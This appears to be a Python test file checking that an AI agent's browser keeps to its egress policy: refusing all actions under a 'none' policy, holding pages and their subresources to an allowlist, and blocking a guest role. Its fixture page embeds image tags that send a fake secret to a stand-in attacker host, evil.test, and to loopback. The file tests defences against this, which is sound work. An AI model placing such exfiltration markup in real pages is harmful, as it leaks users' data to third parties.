"""The run's egress policy holds the browser: under `none` every action is refused and no page is
asked for anything; under an allowlist the page opens only listed domains, and every request the
page makes (images, styles, loopback) is held to the list by the page's own proxy; unset, as before.
Names are pinned to loopback sites with `egress.hosts` (no DNS in tests)."""

from __future__ import annotations

import logging
from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio

from bus import Bus
from bus.errors import NoResponders
from bus.messages import EgressPolicy
from bus.messages.browser import BrowserReply, BrowserRequest, browser_thread_subject
from bus.service import ServiceError, call
from tests.browser.conftest import tool_results
from tests.fakes.openai_server import FakeOpenAI, Reply, ToolCall
from tests.fakes.web_providers import FakeWebsite
from tests.support.runner import ask, submit_and_collect

pytestmark = pytest.mark.asyncio


@pytest_asyncio.fixture
async def sites() -> AsyncIterator[tuple[FakeWebsite, FakeWebsite]]:
    """An allowed news site whose page pulls things from the attacker's (never allowed)."""
    async with FakeWebsite() as news, FakeWebsite() as evil:
        evil.page("/", "<html><head><title>Evil</title></head><body>collected</body></html>", "text/html")
        evil.page("/leak", "x", "image/gif")
        evil.page("/loop", "x", "image/gif")
        evil.page("/style.css", "body {}", "text/css")
        news.page(
            "/",
            "<html><head><title>Moth news</title>"
            f'<link rel="stylesheet" href="http://evil.test:{evil.port}/style.css"></head><body>'
            "<p>Luna moths live a week.</p>"
            f'<img src="http://evil.test:{evil.port}/leak?d=hunter2">'
            f'<img src="http://127.0.0.1:{evil.port}/loop?d=hunter2">'
            "</body></html>",
            "text/html",
        )
        yield news, evil


def policy(mode: str, *allow: str) -> EgressPolicy:
    hosts = {"news.allowed.test": "127.0.0.1", "evil.test": "127.0.0.1"}
    return EgressPolicy(mode=mode, allow=list(allow), hosts=hosts, source="access.roles.guest.egress")  # type: ignore[arg-type]


async def act(bus: Bus, thread: str, **fields: Any) -> BrowserReply:
    """One action as the agent's tools send it: the thread's browser first, else any."""
    request = BrowserRequest(thread_id=thread, **fields)
    try:
        reply = await bus.request(
            browser_thread_subject(bus.subjects.prefix, "default", thread), request, BrowserReply, timeout=60
        )
    except NoResponders:
        return await call(bus, "browser", "act", request, BrowserReply, timeout=60)
    if reply.error is not None:
        raise ServiceError(reply.error.message, reply.error.code)
    return reply


async def test_under_no_egress_the_browser_refuses_every_action_and_asks_no_site(
    bus: Bus, sites: tuple[FakeWebsite, FakeWebsite], browser_component: Bus, caplog: pytest.LogCaptureFixture
) -> None:
    news, _ = sites
    caplog.set_level(logging.WARNING)
    closed = policy("none")
    url = f"http://news.allowed.test:{news.port}/"
    for action in ("navigate", "capture"):
        with pytest.raises(ServiceError, match=r"allows no network access") as refused:
            await act(bus, "t-none", action=action, url=url, egress=closed, run_id="run-none")
        assert refused.value.code == "not_allowed"
    assert news.calls == []
    logged = [r.getMessage() for r in caplog.records]
    assert any("browser egress refused" in m and "(run run-none)" in m for m in logged), logged


async def test_under_an_allowlist_the_page_and_everything_it_loads_keep_to_the_list(
    bus: Bus, sites: tuple[FakeWebsite, FakeWebsite], browser_component: Bus, caplog: pytest.LogCaptureFixture
) -> None:
    news, evil = sites
    caplog.set_level(logging.WARNING)
    listed = policy("allowlist", "allowed.test")
    opened = await act(
        bus,
        "t-list",
        action="navigate",
        url=f"http://news.allowed.test:{news.port}/",
        egress=listed,
        run_id="r1",
    )
    assert opened.title == "Moth news"
    assert "Luna moths live a week." in (await act(bus, "t-list", action="text", egress=listed)).text
    with pytest.raises(ServiceError, match=r"evil\.test is not on the egress allowlist"):
        await act(
            bus, "t-list", action="navigate", url=f"http://evil.test:{evil.port}/", egress=listed, run_id="r1"
        )
    with pytest.raises(ServiceError, match="not on the egress allowlist"):
        await act(bus, "t-cap", action="capture", url=f"http://evil.test:{evil.port}/", egress=listed)
    assert evil.calls == [], "neither the page's subresources (loopback included) nor a navigation got there"
    logged = [r.getMessage() for r in caplog.records]
    assert any("browser egress refused evil.test" in m and "(run r1)" in m for m in logged), logged
    assert any("browser egress refused evil.test" in m and "(run -)" in m for m in logged), logged
    assert any("browser egress refused 127.0.0.1" in m for m in logged), logged

    # The same thread in a run without a policy of its own (the web UI) keeps the stricter page;
    # a run under another policy gets the page closed first.
    with pytest.raises(ServiceError, match="another network policy") as changed:
        await act(bus, "t-list", action="text", egress=policy("allowlist", "other.test"))
    assert changed.value.code == "not_found"


async def test_without_an_egress_policy_the_browser_opens_what_it_did_before(
    bus: Bus, sites: tuple[FakeWebsite, FakeWebsite], browser_component: Bus
) -> None:
    _, evil = sites  # the browser fixture allows loopback, as an operator may
    opened = await act(bus, "t-open", action="navigate", url=f"http://127.0.0.1:{evil.port}/")
    assert opened.title == "Evil"
    assert "/" in [c[1]["path"] for c in evil.calls]


@pytest.fixture
def guests_have_no_egress(config_data: dict[str, Any]) -> None:
    config_data["title"] = {"enabled": False}
    config_data["access"] = {
        "roles": {"member": {}, "guest": {"egress": {"mode": "none"}}},
        "channel_roles": {"telegram": "guest"},  # unlinked chat users get the guest role
    }


@pytest.mark.usefixtures("guests_have_no_egress")
async def test_a_role_with_no_egress_gets_the_browser_refused_in_its_runs(
    bus: Bus,
    fake_model: FakeOpenAI,
    sites: tuple[FakeWebsite, FakeWebsite],
    browser_component: Bus,
    runner: None,
) -> None:
    news, _ = sites
    url = f"http://127.0.0.1:{news.port}/"  # loopback is allowed by the browser's config: the role is not
    fake_model.script(
        Reply(tool_calls=[ToolCall("browser_navigate", {"url": url})]),
        Reply(tool_calls=[ToolCall("web_capture", {"url": url})]),
        Reply(text="The browser is not allowed here."),
    )
    request = ask("t-guest-browser", "Open the moth news", user_id="telegram:42")
    events = await submit_and_collect(bus, request, timeout=120)
    assert events[-1].data["status"] == "success"
    results = tool_results(fake_model)
    assert len(results) == 2
    for result in results:
        assert "allows no network access" in result, result
        assert "access.roles.guest.egress" in result
    assert news.calls == []

    # A member of the same deployment browses as before.
    fake_model.script(
        Reply(tool_calls=[ToolCall("browser_navigate", {"url": url})]),
        Reply(text="Opened."),
    )
    await submit_and_collect(bus, ask("t-member-browser", "Open the moth news"), timeout=120)
    assert "Title: Moth news" in tool_results(fake_model)[0]
